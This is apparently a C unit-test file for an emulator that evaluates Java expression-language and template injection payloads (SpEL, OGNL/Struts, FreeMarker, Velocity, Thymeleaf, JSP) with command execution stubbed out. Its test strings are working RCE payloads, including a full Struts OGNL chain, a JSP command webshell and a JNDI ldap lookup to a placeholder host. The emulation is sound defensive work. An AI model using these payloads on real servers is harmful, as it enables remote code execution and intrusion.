/* SPDX-License-Identifier: GPL-2.0-or-later */
/* What attacks in Java's expression languages do and show; values beside the real libraries are in tests/engine. */
#include "emu/expression/expression.h"
#include "emu/expression/jsp.h"

#include <errno.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

static struct arena arena;
static struct expression_outcome o;
static char commands[4096];  /* started, a line each, words between | */
static char events[4096];    /* noted: kind, name or path */

static int exec(void *context, const struct bytes *words, unsigned count, struct expression_process *ret)
{
	(void)context;
	for (unsigned i = 0; i < count; i++)
		sprintf(commands + strlen(commands), "%s%.*s", i > 0 ? "|" : "", (int)words[i].left, (const char *)words[i].at);
	strcat(commands, "\n");
	ret->out = ret->both = bytes_text("first line\nsecond line\n");
	ret->ran_ns = 2000000000;
	return 0;
}

static void note(void *context, const struct event *e)
{
	(void)context;
	sprintf(events + strlen(events), "%s %.*s%.*s %u %llu\n", event_kind_name(e->kind), (int)e->name.left, (const char *)e->name.at, (int)e->path.left, (const char *)e->path.at, e->port, (unsigned long long)e->value);
}

static int run_for(enum expression_language l, bool whole, const char *text, const char *request, bool old)
{
	const struct expression_host host = { .exec = exec, .note = note, .seed = 5, .request = bytes_text(request), .old = old };

	arena.used = 0;
	arena.full = false;
	commands[0] = events[0] = '\0';
	return expression_evaluate(l, whole, bytes_text(text), &host, &arena, &o);
}

static void run(enum expression_language l, bool whole, const char *text)
{
	assert_int_equal(run_for(l, whole, text, "", false), 0);
}

static void assert_shown(const char *text)
{
	char got[8192];

	snprintf(got, sizeof(got), "%.*s", (int)o.shown.left, o.shown.left > 0 ? (const char *)o.shown.at : "");
	assert_string_equal(got, text);
}

static void a_process_that_nobody_reads_shows_itself_only(void **state)
{
	(void)state;
	run(EXPRESSION_SPEL, true, "T(java.lang.Runtime).getRuntime().exec('id -a')");
	assert_string_equal(commands, "id|-a\n");
	assert_int_equal(bytes_find(o.shown, bytes_text("Process[pid=")), 0);
	assert_true(bytes_find(o.shown, bytes_text("line")) < 0);
	assert_true(o.asked_java && o.waited_ns == 0);
	assert_int_equal(run_for(EXPRESSION_SPEL, true, "T(Runtime).getRuntime().exec('id')", "", true), 0);
	assert_int_equal(bytes_find(o.shown, bytes_text("java.lang.UNIXProcess@")), 0);
}

static void a_page_is_the_java_that_prints_it(void **state)
{
	static const struct { const char *page, *shown; } pages[] = {
		{ "a\"$b\\<%-- no --%><%= 191*7 %>\n<% for (int i = 0; i < 2; i++) { %><i><% out.print(i); } %>", "a\"$b\\1337<i>0<i>1" },
		{ "<%@ page import=\"java.io.*\" %><% InputStream in = Runtime.getRuntime().exec(\"id\").getInputStream(); int c; while ((c = in.read()) != -1) out.print((char) c); %>",
		  "first line\nsecond line\n" },
		{ "<jsp:root version=\"2.0\"><jsp:scriptlet><![CDATA[ out.print(\"k\" + 191*7); ]]></jsp:scriptlet><jsp:expression>6*7</jsp:expression></jsp:root>", "k133742" },
		{ "<% out.print(request.getParameter(\"c\")); %>", "x y" },
	};
	struct bytes java;

	(void)state;
	for (unsigned i = 0; i < COUNT_OF(pages); i++) {
		run(EXPRESSION_JAVA, true, ""); /* the arena is empty */
		assert_true(java_is_page(bytes_text(pages[i].page)));
		assert_int_equal(java_of_page(bytes_text(pages[i].page), &arena, &java), 0);
		java = bytes_text(strndup((const char *)java.at, java.left));
		assert_int_equal(run_for(EXPRESSION_JAVA, true, (const char *)java.at, "GET /?c=x+y HTTP/1.1\r\n\r\n", false), 0);
		assert_shown(pages[i].shown);
		free((void *)(uintptr_t)java.at);
	}
	assert_false(java_is_page(bytes_text("50 <% of 3")));
}

static void a_command_line_is_cut_at_blanks_and_no_shell_sees_it(void **state)
{
	(void)state;
	run(EXPRESSION_OGNL, true, "@java.lang.Runtime@getRuntime().exec(\"sh -c 'echo a; id'\")");
	assert_string_equal(commands, "sh|-c|'echo|a;|id'\n");
	run(EXPRESSION_OGNL, true, "@java.lang.Runtime@getRuntime().exec(new java.lang.String[]{\"sh\",\"-c\",\"echo a; id\"})");
	assert_string_equal(commands, "sh|-c|echo a; id\n");
}

static void the_ways_to_read_a_process_read_it(void **state)
{
	static const struct { enum expression_language language; const char *text, *shown; } ways[] = {
		{ EXPRESSION_SPEL, "new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('id').getInputStream()).useDelimiter('\\A').next()", "first line\nsecond line\n" },
		{ EXPRESSION_SPEL, "new java.util.Scanner(new ProcessBuilder('id').start().getInputStream()).nextLine()", "first line" },
		{ EXPRESSION_SPEL, "T(org.apache.commons.io.IOUtils).toString(T(Runtime).getRuntime().exec('id').inputStream, 'UTF-8').toUpperCase()", "FIRST LINE\nSECOND LINE\n" },
		{ EXPRESSION_SPEL, "T(org.springframework.util.StreamUtils).copyToString(T(Runtime).getRuntime().exec('id').getInputStream(), T(java.nio.charset.Charset).defaultCharset()).split(' ')[0]", "first" },
		{ EXPRESSION_JAVA, "def p = 'id'.execute(); p.waitFor(); p.text", "first line\nsecond line\n" },
		{ EXPRESSION_JAVA, "BufferedReader r = new BufferedReader(new InputStreamReader(Runtime.getRuntime().exec(\"id\").getInputStream())); String l, all = \"\"; while ((l = r.readLine()) != null) { all += l + \"#\"; } all", "first line#second line#" },
		{ EXPRESSION_JAVA, "function run(data) { var p = new java.lang.ProcessBuilder(\"id\").start(); var s = new java.util.Scanner(p.getInputStream()); var all = ''; while (s.hasNextLine()) { all += s.nextLine() + '/' } return all; }", "first line/second line/" },
		{ EXPRESSION_JAVA, "throw new Exception(\"id\".execute().text)", "first line\nsecond line\n" },
		{ EXPRESSION_EL, "''.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('js').eval(\"new java.util.Scanner(java.lang.Runtime.getRuntime().exec('id').getInputStream()).nextLine()\")", "first line" },
	};

	(void)state;
	for (size_t i = 0; i < COUNT_OF(ways); i++) {
		run(ways[i].language, true, ways[i].text);
		assert_string_equal(commands, "id\n");
		assert_shown(ways[i].shown);
		assert_int_equal(o.waited_ns, 2000000000);
	}
}

static void struts_preludes_are_ordinary_expressions(void **state)
{
	(void)state;
	run(EXPRESSION_OGNL, false, "%{(#nike='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container'])."
	    "(#u=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#u.getExcludedPackageNames().clear()).(#context.setMemberAccess(#dm)))).(#cmd='id').(#cmds={'/bin/bash','-c',#cmd}).(#p=new java.lang.ProcessBuilder(#cmds))."
	    "(#p.redirectErrorStream(true)).(#process=#p.start()).(#ros=(@org.apache.struts2.ServletActionContext@getResponse().getOutputStream())).(@org.apache.commons.io.IOUtils@copy(#process.getInputStream(),#ros)).(#ros.flush())}");
	assert_string_equal(commands, "/bin/bash|-c|id\n");
	assert_int_equal(bytes_find(o.shown, bytes_text("first line\nsecond line\n")), 0);
	run(EXPRESSION_OGNL, false, "%{#a=(new java.lang.ProcessBuilder(new java.lang.String[]{\"id\"})).start(),#d=new java.io.BufferedReader(new java.io.InputStreamReader(#a.getInputStream())),#e=new char[64],#d.read(#e),"
	    "#f=#context.get(\"com.opensymphony.xwork2.dispatcher.HttpServletResponse\"),#f.getWriter().println(new java.lang.String(#e)),#f.getWriter().flush()}");
	assert_int_equal(bytes_find(o.shown, bytes_text("first line\nsecond line\n")), 0);
	run(EXPRESSION_OGNL, false, "${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec(\"id\").getInputStream(),\"utf-8\")).(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader(\"X-Any\",#a))}");
	assert_true(bytes_find(o.shown, bytes_text("second line")) >= 0);
}

static void parameters_of_the_request_are_read(void **state)
{
	(void)state;
	assert_int_equal(run_for(EXPRESSION_OGNL, true, "@java.lang.Runtime@getRuntime().exec(#parameters.cmd[0])", "GET /x?a=1&cmd=id%20-a HTTP/1.1\r\nHost: a\r\n\r\n", false), 0);
	assert_string_equal(commands, "id|-a\n");
	assert_int_equal(run_for(EXPRESSION_JAVA, true, "new ProcessBuilder(request.getHeader(\"X-Run\")).start()", "GET / HTTP/1.1\r\nx-run: id\r\n\r\n", false), 0);
	assert_string_equal(commands, "id\n");
}

static void numbers_print_as_the_language_and_the_locale_say(void **state)
{
	(void)state;
	run(EXPRESSION_FREEMARKER, false, "${1337*7331} ${7/2} ${1000?c}");
	assert_shown("9,801,547 3.5 1000");
	assert_int_equal(run_for(EXPRESSION_FREEMARKER, false, "${1337*7331}", "", true), 0);
	assert_shown("9801547");
	run(EXPRESSION_FREEMARKER, false, "<#setting number_format='computer'>${1337*7331}");
	assert_shown("9801547");
	run(EXPRESSION_EL, false, "${1337*7331} #{7/2}");
	assert_shown("9801547 3.5");
	run(EXPRESSION_SPEL, false, "#{2147483647+1}");
	assert_shown("-2147483648");
}

static void templates_run_what_they_make(void **state)
{
	(void)state;
	run(EXPRESSION_FREEMARKER, false, "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id -a\")}");
	assert_string_equal(commands, "id|-a\n");
	assert_shown("first line\nsecond line\n");
	run(EXPRESSION_VELOCITY, false, "#set($e=\"e\")#set($p=$e.class.forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null).exec(\"id\"))$p.waitFor()#set($s=$p.inputStream)#foreach($i in [1..$s.available()])x#end");
	assert_string_equal(commands, "id\n");
	assert_shown("0xxxxxxxxxxxxxxxxxxxxxxx");
	run(EXPRESSION_THYMELEAF, false, "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('id').getInputStream()).nextLine()}__::.x");
	assert_shown("first line::.x");
}

static void what_goes_out_is_noted(void **state)
{
	(void)state;
	run(EXPRESSION_SPEL, true, "T(java.net.InetAddress).getByName('a.example.net')");
	assert_string_equal(events, "dns a.example.net 0 0\n");
	run(EXPRESSION_SPEL, true, "T(java.lang.Thread).sleep(1500)");
	assert_string_equal(events, "sleep  0 1500000000\n");
	assert_int_equal(o.waited_ns, 1500000000);
	run(EXPRESSION_SPEL, true, "new javax.naming.InitialContext().lookup('ldap://b.example.net:1389/x')");
	assert_string_equal(events, "dns b.example.net 0 0\nconnect b.example.net 1389 0\n");
	run(EXPRESSION_JAVA, true, "new java.net.URL(\"http://c.example.net/x\").openStream()");
	assert_string_equal(events, "fetch http://c.example.net/x 0 0\n");
	run(EXPRESSION_JAVA, true, "new FileOutputStream(\"/tmp/x.jsp\").write(\"abc\".getBytes())");
	assert_string_equal(events, "write /tmp/x.jsp 0 3\n");
}

static void what_only_the_victim_has_is_another_with_each_seed(void **state)
{
	struct expression_host host = { .exec = exec, .note = note };
	char first[256];

	(void)state;
	run(EXPRESSION_SPEL, true, "'a' + T(java.lang.System).getProperty('catalina.home')");
	snprintf(first, sizeof(first), "%.*s", (int)o.shown.left, (const char *)o.shown.at);
	host.seed = 6;
	assert_int_equal(expression_evaluate(EXPRESSION_SPEL, true, bytes_text("'a' + T(java.lang.System).getProperty('catalina.home')"), &host, &arena, &o), 0);
	assert_false(bytes_equal(o.shown, bytes_text(first)));
}

static void ordinary_text_is_no_template(void **state)
{
	static const char *const texts[] = { "price $5 {a}", "user@example.com", "#1 in sales", "a ## b", "50% {off}" };

	(void)state;
	for (size_t i = 0; i < COUNT_OF(texts); i++) {
		for (unsigned l = 0; l < EXPRESSION_LANGUAGES; l++)
			assert_true(run_for((enum expression_language)l, false, texts[i], "", false) == -EBADMSG || (!o.evaluated && o.effects == 0));
	}
}

static void what_is_not_modelled_is_refused_by_name(void **state)
{
	(void)state;
	run(EXPRESSION_SPEL, true, "T(org.springframework.cglib.core.ReflectUtils).defineClass('A', 'x'.getBytes(), null)");
	assert_string_equal(o.refused, "bytecode");
	run(EXPRESSION_SPEL, true, "'a'.nosuchmethod()");
	assert_string_equal(o.refused, "method nosuchmethod");
}

static void hostile_texts_end_at_a_bound(void **state)
{
	static char deep[6000];

	(void)state;
	memset(deep, '(', 3000);
	assert_true(run_for(EXPRESSION_SPEL, true, deep, "", false) < 0);
	assert_int_equal(run_for(EXPRESSION_JAVA, true, "while (true) { x = 1 }", "", false), -E2BIG);
	assert_int_equal(run_for(EXPRESSION_JAVA, true, "def f(x) { f(x) }; f(1)", "", false), -E2BIG);
	assert_int_equal(run_for(EXPRESSION_JAVA, true, "String s = \"aaaaaaaa\"; while (true) { s = s + s }", "", false), -E2BIG);
	assert_int_equal(run_for(EXPRESSION_VELOCITY, false, "#set($t='#evaluate($t)')#evaluate($t)", "", false), -E2BIG);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(a_process_that_nobody_reads_shows_itself_only),
		cmocka_unit_test(a_page_is_the_java_that_prints_it),
		cmocka_unit_test(a_command_line_is_cut_at_blanks_and_no_shell_sees_it),
		cmocka_unit_test(the_ways_to_read_a_process_read_it),
		cmocka_unit_test(struts_preludes_are_ordinary_expressions),
		cmocka_unit_test(parameters_of_the_request_are_read),
		cmocka_unit_test(numbers_print_as_the_language_and_the_locale_say),
		cmocka_unit_test(templates_run_what_they_make),
		cmocka_unit_test(what_goes_out_is_noted),
		cmocka_unit_test(what_only_the_victim_has_is_another_with_each_seed),
		cmocka_unit_test(ordinary_text_is_no_template),
		cmocka_unit_test(what_is_not_modelled_is_refused_by_name),
		cmocka_unit_test(hostile_texts_end_at_a_bound),
	};
	int r;

	arena = (struct arena){ .at = malloc(64 << 20), .size = 64 << 20 };
	r = arena.at == NULL ? 1 : cmocka_run_group_tests(tests, NULL, NULL);
	free(arena.at);
	return r;
}
